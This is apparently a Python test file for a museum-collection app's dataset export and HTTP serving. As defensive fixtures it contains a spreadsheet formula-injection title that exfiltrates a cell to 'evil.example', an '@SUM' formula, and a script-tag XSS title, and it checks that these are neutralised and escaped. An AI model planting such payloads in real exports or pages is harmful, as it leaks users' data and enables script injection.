"""Open data: ``glampub export-dataset`` through the installed command, and the same
datasets served under ``/datasets/`` over HTTP, on both databases.

Two institutions are made and imported with the installed command, one object
withdrawn by a full re-import, titles and creators that a spreadsheet would run
as formulas, HTML in titles and in an institution's name. The datasets must hold
exactly the published objects, validate as Frictionless Data Packages (hashes
and sizes checked by the ``frictionless`` library), state only the metadata
licence an institution chose, and be rebuilt in the background when a re-import
changes a title, the last complete build served meanwhile.
"""

from __future__ import annotations

import csv
import gc
import gzip
import hashlib
import io
import json
import shutil
import subprocess
import uuid
import warnings
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import frictionless
import pytest
from flask import Flask
from PIL import Image
from sqlalchemy import select
from werkzeug.test import TestResponse

from glampub import create_app
from glampub.jobs.datasets import wait_for_rebuild
from glampub.models import CollectionObject, Institution
from glampub.open_data import builds, export
from glampub.open_data.builds import current_build, dataset_files, rebuild_if_stale
from glampub.statuses import ObjectStatus
from tests.conftest import BASE_URL, database
from tests.databases import subprocess_env
from tests.installed_command import run_installed

BY4 = "http://creativecommons.org/licenses/by/4.0/"
CC0 = "http://creativecommons.org/publicdomain/zero/1.0/"
PDM = "http://creativecommons.org/publicdomain/mark/1.0/"
INC = "http://rightsstatements.org/vocab/InC/1.0/"
FORMULA_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
FORMULA_CREATOR = "@SUM(A1:A9)"
HTML_TITLE = "<script>alert(1)</script> Jug"
HOSTILE_NAME = "River <b>Museum</b> & Co"
HEADER = "identifier,title,creator,creator_role,date,rights,images\n"


def _river_export(folder: Path, *, bowl_title: str, with_withdrawn: bool) -> Path:
    rows = [
        ["R-1", FORMULA_TITLE, "Ashdown, Margaret", "painter", "1862", CC0, "r1.jpg"],
        ["R-2", HTML_TITLE, FORMULA_CREATOR, "potter", "ca. 1900", INC, ""],
        ["R-3", bowl_title, "", "", "-1200", PDM, ""],
    ]
    if with_withdrawn:
        rows.append(["R-4", "Soon withdrawn", "", "", "", PDM, ""])
    out = io.StringIO()
    out.write(HEADER)
    csv.writer(out, lineterminator="\n").writerows(rows)
    path = folder / f"river-{len(rows)}-{hashlib.sha1(bowl_title.encode()).hexdigest()[:6]}.csv"
    path.write_text(out.getvalue(), "utf-8")
    return path


def _run(env: dict[str, str], *args: str) -> subprocess.CompletedProcess[str]:
    result = run_installed(env, *args)
    assert result.returncode == 0, (args, result.stdout, result.stderr)
    return result


@pytest.fixture(scope="module")
def museum(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    """Two institutions published with the installed command; R-4 withdrawn by a
    full re-import. River chose CC BY for its metadata, Hill chose nothing.

    Shared by the tests of this module, in their order: the last two re-import
    R-3 with a new title each.
    """
    tmp_path = tmp_path_factory.mktemp("open-data")
    data_dir = tmp_path / "data"
    env = subprocess_env(data_dir, {"PATH": "/usr/bin:/bin"})
    images = tmp_path / "images"
    images.mkdir()
    Image.new("RGB", (64, 48), (120, 80, 40)).save(images / "r1.jpg", quality=80)
    _run(
        env,
        "institution",
        "add",
        "river-museum",
        "--name",
        HOSTILE_NAME,
        "--metadata-licence",
        "cc-by",
    )
    _run(env, "institution", "add", "hill-archive", "--name", "Hill Archive")
    first = _river_export(tmp_path, bowl_title="Plain bowl", with_withdrawn=True)
    _run(env, "import", str(first), "--institution", "river-museum", "--images", str(images))
    second = _river_export(tmp_path, bowl_title="Plain bowl", with_withdrawn=False)
    _run(
        env,
        "import",
        str(second),
        "--institution",
        "river-museum",
        "--images",
        str(images),
        "--full",
    )
    hill = tmp_path / "hill.csv"
    hill.write_text("identifier,title,rights\nH-1,Map of the hill,see our website\n", "utf-8")
    _run(env, "import", str(hill), "--institution", "hill-archive")
    return {"env": env, "data_dir": data_dir, "images": images}


@pytest.fixture
def site(museum: dict[str, Any]) -> Iterator[Flask]:
    app = create_app({"DATA_DIR": str(museum["data_dir"]), "TESTING": True, "BASE_URL": BASE_URL})
    yield app
    wait_for_rebuild(app)
    database(app).dispose()


class Client:
    """The app's test client whose answers are read whole and closed: a file sent
    by ``send_file`` stays open until its response is closed."""

    def __init__(self, app: Flask) -> None:
        self.client = app.test_client()

    def get(self, url: str, **kwargs: Any) -> TestResponse:
        response = self.client.get(url, buffered=True, **kwargs)
        response.close()
        return response


def _published(app: Flask) -> set[tuple[str, str]]:
    with database(app).transaction() as session:
        rows = session.execute(
            select(Institution.slug, CollectionObject.identifier)
            .join(Institution)
            .where(CollectionObject.status == ObjectStatus.PUBLISHED)
        )
        return {(row.slug, row.identifier) for row in rows}


def _jsonl(data: bytes) -> list[dict[str, Any]]:
    return [json.loads(line) for line in gzip.decompress(data).decode("utf-8").splitlines()]


def _csv(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(gzip.decompress(data).decode("utf-8"), newline="")))


def _valid(descriptor: Path) -> None:
    """Valid as Frictionless reads it: the descriptor, every row against its schema,
    and each file's sha256 and size (``hash-count``, ``byte-count``)."""
    # frictionless leaves its reader of a gzip JSON Lines file to the garbage
    # collector: collected here, its warning is no failure of ours.
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", ResourceWarning)
        report = frictionless.validate(str(descriptor))
        gc.collect()
    assert report.valid, report.flatten(["type", "note"])
    checked = {task.name: task.stats for task in report.tasks}
    assert set(checked) == {"objects-csv", "objects-jsonl"}


def _check_records(records: list[dict[str, Any]], rows: list[dict[str, str]]) -> None:
    """The hostile values: exact in JSON, neutralised in CSV; manifests only with images."""
    by_id = {(r["institution"], r["identifier"]): r for r in records}
    cells = {(r["institution"], r["identifier"]): r for r in rows}
    assert by_id.keys() == cells.keys()
    formula = by_id["river-museum", "R-1"]
    assert formula["title"] == {"none": [FORMULA_TITLE]}
    assert cells["river-museum", "R-1"]["title"] == "'" + FORMULA_TITLE
    assert formula["manifest"] == f"{BASE_URL}/iiif/3/river-museum/R-1/manifest"
    (image,) = formula["images"]
    assert image["url"].startswith(f"{BASE_URL}/iiif/image/3/") and image["rights_uri"] == CC0
    assert cells["river-museum", "R-1"]["image_urls"] == image["url"]
    assert formula["rights"] == {"uri": CC0, "label": "CC0 1.0", "reuse": "free"}
    assert formula["object_page"] == f"{BASE_URL}/objects/river-museum/R-1"
    assert formula["credit_line"] and formula["credit_line"] == cells["river-museum", "R-1"][
        "credit_line"
    ].removeprefix("'")
    html = by_id["river-museum", "R-2"]
    assert html["title"] == {"none": [HTML_TITLE]} and "manifest" not in html
    assert cells["river-museum", "R-2"]["manifest"] == ""
    assert cells["river-museum", "R-2"]["title"] == HTML_TITLE  # data, not markup: as given
    assert cells["river-museum", "R-2"]["creators"] == f"'{FORMULA_CREATOR} (potter)"
    assert html["rights"]["reuse"] == "permission"
    # A plain negative year is a number, not a formula: left alone.
    assert cells["river-museum", "R-3"]["date"] == "-1200"
    # Every cell of every row: nothing a spreadsheet would run.
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "@", "\t", "\r")), value
    assert by_id["river-museum", "R-1"]["metadata_licence"] == BY4
    assert by_id["hill-archive", "H-1"]["metadata_licence"] is None
    assert by_id["hill-archive", "H-1"]["rights"]["uri"] is None


def test_export_dataset_writes_valid_packages_of_exactly_the_published_objects(
    museum: dict[str, Any], site: Flask, tmp_path: Path
) -> None:
    env, tmp = museum["env"], tmp_path
    whole, river, hill = tmp / "whole", tmp / "river", tmp / "hill"
    result = _run(env, "export-dataset", str(whole), "--base-url", BASE_URL)
    assert "Wrote 4 records" in result.stdout
    _run(env, "export-dataset", "river-museum", str(river), "--base-url", BASE_URL)
    _run(env, "export-dataset", "hill-archive", str(hill), "--base-url", BASE_URL)

    published = _published(site)
    assert ("river-museum", "R-4") not in published and len(published) == 4
    for folder, stem, expected in (
        (whole, "all-institutions", published),
        (river, "river-museum", {p for p in published if p[0] == "river-museum"}),
        (hill, "hill-archive", {("hill-archive", "H-1")}),
    ):
        assert sorted(p.name for p in folder.iterdir()) == sorted(
            ["SHA256SUMS", "datapackage.json", f"{stem}.csv.gz", f"{stem}.jsonl.gz"]
        )
        _valid(folder / "datapackage.json")
        checked = subprocess.run(
            ["sha256sum", "-c", "SHA256SUMS"], cwd=folder, capture_output=True, text=True
        )
        assert checked.returncode == 0 and checked.stdout.count(": OK") == 3, checked.stdout
        records = _jsonl((folder / f"{stem}.jsonl.gz").read_bytes())
        rows = _csv((folder / f"{stem}.csv.gz").read_bytes())
        # One to one: every published object once, nothing else (R-4 is withdrawn).
        assert [(r["institution"], r["identifier"]) for r in records] == [
            (r["institution"], r["identifier"]) for r in rows
        ]
        assert (
            len(records) == len(expected)
            and {(r["institution"], r["identifier"]) for r in records} == expected
        )
        descriptor = json.loads((folder / "datapackage.json").read_text("utf-8"))
        assert descriptor["glampub:records"] == len(expected)
        assert "each record states its own" in descriptor["description"]
    _check_records(
        _jsonl((whole / "all-institutions.jsonl.gz").read_bytes()),
        _csv((whole / "all-institutions.csv.gz").read_bytes()),
    )

    # The metadata licence: only what each institution chose.
    river_package = json.loads((river / "datapackage.json").read_text("utf-8"))
    assert river_package["licenses"] == [{"path": BY4, "title": "CC BY 4.0", "name": "CC-BY-4.0"}]
    assert "licenses" not in json.loads((hill / "datapackage.json").read_text("utf-8"))
    whole_package = json.loads((whole / "datapackage.json").read_text("utf-8"))
    assert "licenses" not in whole_package  # they differ: none for the whole
    assert whole_package["glampub:institutions"] == [
        {"slug": "hill-archive", "name": "Hill Archive", "metadata_licence": None},
        {"slug": "river-museum", "name": HOSTILE_NAME, "metadata_licence": BY4},
    ]

    refused = run_installed(
        env, "export-dataset", "no-such", str(tmp / "x"), "--base-url", BASE_URL
    )
    assert refused.returncode == 2 and "no institution 'no-such'" in refused.stderr
    unplaced = run_installed(env, "export-dataset", str(tmp / "y"))
    assert unplaced.returncode == 2 and "--base-url" in unplaced.stderr


def test_datasets_are_served_with_stable_urls_and_listed_with_a_citation(
    museum: dict[str, Any], site: Flask, tmp_path: Path
) -> None:
    client = Client(site)
    # Nothing built yet: no file, a retry hint, and a build started.
    early = client.get("/datasets/all/datapackage.json")
    assert early.status_code == 503 and early.headers["Retry-After"].isdigit()
    wait_for_rebuild(site)

    page = client.get("/datasets/")
    assert page.status_code == 200
    html = page.get_data(as_text=True)
    assert "a new version is being built" not in html
    assert "River &lt;b&gt;Museum&lt;/b&gt; &amp; Co" in html and "<b>Museum" not in html
    build = current_build(museum["data_dir"])
    assert build is not None
    assert [p.path for p in build.packages] == [
        "all",
        "institutions/hill-archive",
        "institutions/river-museum",
    ]
    river = build.package("institutions/river-museum")
    assert river is not None and river.records == 3
    citation = river.citation(BASE_URL)
    assert citation.startswith(f"{HOSTILE_NAME} (")
    assert citation.endswith(f"{BASE_URL}/datasets/institutions/river-museum/datapackage.json")
    assert "3 records" in citation
    assert citation.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;") in html
    assert BY4 in html
    # Linked from every page's footer.
    assert f'href="{BASE_URL}/datasets/"' in client.get("/").get_data(as_text=True)
    institution = client.get("/institutions/river-museum").get_data(as_text=True)
    assert f'<a href="{BASE_URL}/datasets/">The collection of River &lt;b&gt;' in institution

    types = {
        "datapackage.json": "application/json",
        "SHA256SUMS": "text/plain; charset=utf-8",
        "river-museum.csv.gz": "application/gzip",
        "river-museum.jsonl.gz": "application/gzip",
    }
    served: dict[str, bytes] = {}
    for name, content_type in types.items():
        response = client.get(f"/datasets/institutions/river-museum/{name}")
        assert response.status_code == 200, name
        assert response.headers["Content-Type"] == content_type
        assert int(response.headers["Content-Length"]) == len(response.data)
        # The same for everyone: a shared cache may keep it, asking each time.
        assert "cookie" not in response.headers.get("Vary", "").lower()
        assert response.headers["Cache-Control"] == "public, no-cache"
        digest = hashlib.sha256(response.data).hexdigest()
        assert response.headers["ETag"] == f'"{digest}"'
        assert f'href="{BASE_URL}/datasets/institutions/river-museum/{name}"' in html
        again = client.get(
            f"/datasets/institutions/river-museum/{name}",
            headers={"If-None-Match": response.headers["ETag"]},
        )
        assert again.status_code == 304
        served[name] = response.data
    descriptor = json.loads(served["datapackage.json"])
    for resource in descriptor["resources"]:
        data = served[resource["path"]]
        assert resource["hash"] == "sha256:" + hashlib.sha256(data).hexdigest()
        assert resource["bytes"] == len(data)
    # The served package is the one the command writes: the same bytes of data.
    exported = tmp_path / "river"
    _run(museum["env"], "export-dataset", "river-museum", str(exported), "--base-url", BASE_URL)
    assert (exported / "river-museum.jsonl.gz").read_bytes() == served["river-museum.jsonl.gz"]
    assert (exported / "river-museum.csv.gz").read_bytes() == served["river-museum.csv.gz"]
    whole = client.get("/datasets/all/all-institutions.jsonl.gz")
    _check_records(
        _jsonl(whole.data), _csv(client.get("/datasets/all/all-institutions.csv.gz").data)
    )
    _valid(build.folder / "all" / "datapackage.json")

    for missing in (
        "/datasets/all/../build.json",
        "/datasets/all/nothing.csv.gz",
        "/datasets/institutions/no-such/datapackage.json",
        "/datasets/institutions/river-museum/hill-archive.csv.gz",
    ):
        assert client.get(missing).status_code == 404, missing

    # Every file the TDM signals will cover, with the reuse classes it holds.
    files = dict(dataset_files(museum["data_dir"]))
    assert len(files) == 12
    assert files["/datasets/institutions/hill-archive/hill-archive.csv.gz"] == {"permission"}
    assert files["/datasets/all/datapackage.json"] == {"free", "permission"}
    for path in files:
        assert client.get(path).status_code == 200, path


def test_a_reimport_that_changes_a_title_rebuilds_in_the_background(
    museum: dict[str, Any], site: Flask, tmp_path: Path
) -> None:
    client = Client(site)
    client.get("/datasets/")
    wait_for_rebuild(site)
    url = "/datasets/institutions/river-museum/river-museum.jsonl.gz"
    before = client.get(url)
    titles = {r["identifier"]: r["title"] for r in _jsonl(before.data)}
    assert titles["R-3"] == {"none": ["Plain bowl"]}
    first = current_build(museum["data_dir"])
    assert first is not None

    changed = _river_export(tmp_path, bowl_title="Glazed bowl", with_withdrawn=False)
    _run(
        museum["env"],
        "import",
        str(changed),
        "--institution",
        "river-museum",
        "--images",
        str(museum["images"]),
    )
    # Stale: the last complete build is served as it was while the new one is
    # made (held back here by taking the builders' lock, as a builder in
    # another process would).
    with builds.build_lock(museum["data_dir"]) as mine:
        assert mine
        stale = client.get(url)
        assert stale.status_code == 200 and stale.data == before.data
        assert "a new version is being built" in client.get("/datasets/").get_data(as_text=True)
        wait_for_rebuild(site)
        assert current_build(museum["data_dir"]) == first
    client.get(url)  # the next request finds it stale still, and starts the build
    wait_for_rebuild(site)
    after = client.get(url)
    assert after.headers["ETag"] != before.headers["ETag"]
    titles = {r["identifier"]: r["title"] for r in _jsonl(after.data)}
    assert titles["R-3"] == {"none": ["Glazed bowl"]}
    # The unchanged institution's data files are byte for byte the same.
    hill = "/datasets/institutions/hill-archive/hill-archive.csv.gz"
    assert hill.endswith(".gz") and client.get(hill).headers["ETag"] == (
        f'"{first.package("institutions/hill-archive").file("hill-archive.csv.gz").sha256}"'  # type: ignore[union-attr]
    )
    root = builds.datasets_dir(museum["data_dir"])
    assert list((root / "work").iterdir()) == []  # nothing half-written is left


def test_a_failed_build_leaves_the_last_complete_one_served(
    museum: dict[str, Any], site: Flask, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    engine = database(site).engine
    assert engine is not None
    data_dir = museum["data_dir"]
    first = rebuild_if_stale(engine, data_dir, site_urls())
    assert first is not None and current_build(data_dir) == first

    calls = {"n": 0}
    real = export.dataset_record

    def failing(obj: CollectionObject, urls: Any) -> dict[str, Any]:
        calls["n"] += 1
        if calls["n"] == 3:
            raise OSError("No space left on device")
        return real(obj, urls)

    monkeypatch.setattr(export, "dataset_record", failing)
    changed = _river_export(tmp_path, bowl_title="Cracked bowl", with_withdrawn=False)
    _run(museum["env"], "import", str(changed), "--institution", "river-museum")
    with pytest.raises(OSError, match="No space"):
        rebuild_if_stale(engine, data_dir, site_urls())
    assert current_build(data_dir) == first
    assert list((builds.datasets_dir(data_dir) / "work").iterdir()) == []
    monkeypatch.undo()
    again = rebuild_if_stale(engine, data_dir, site_urls())
    assert again is not None and again.id != first.id


def site_urls() -> Any:
    from glampub.iiif.urls import IiifUrls

    return IiifUrls(BASE_URL)


REDIS_URL = "redis://127.0.0.1:6379/0"


def test_with_redis_one_rebuild_is_queued_for_an_rq_worker(
    museum: dict[str, Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    redis = pytest.importorskip("redis")
    connection = redis.Redis.from_url(REDIS_URL)
    try:
        connection.ping()
    except redis.exceptions.ConnectionError as exc:
        pytest.skip(f"no Redis at {REDIS_URL}: {exc}")
    from rq import Queue, SimpleWorker

    name = f"glampub-test-{uuid.uuid4().hex[:12]}"
    queue = Queue(name, connection=connection)
    # The worker builds its own app from the environment, as `glampub worker` does.
    for key, value in subprocess_env(museum["data_dir"], {}).items():
        monkeypatch.setenv(key, value)
    monkeypatch.setenv("GLAMPUB_REDIS_URL", REDIS_URL)
    app = create_app({"TESTING": True, "RQ_QUEUE": name, "BASE_URL": BASE_URL})
    try:
        client = Client(app)
        # No build yet: the requests queue one job between them.
        root = builds.datasets_dir(museum["data_dir"])
        for path in root.glob("builds/*"):
            shutil.rmtree(path)
        (root / "current").unlink(missing_ok=True)
        assert client.get("/datasets/all/datapackage.json").status_code == 503
        assert client.get("/datasets/").status_code == 200
        assert queue.count == 1
        assert queue.jobs[0].func_name == "glampub.jobs.worker.rq_datasets_job"
        SimpleWorker([queue], connection=connection).work(burst=True)
        served = client.get("/datasets/all/datapackage.json")
        assert served.status_code == 200
        assert json.loads(served.data)["glampub:records"] == 4
    finally:
        database(app).dispose()
        queue.empty()
        queue.delete(delete_jobs=True)
        for key in connection.scan_iter(f"rq:*{name}*"):
            connection.delete(key)
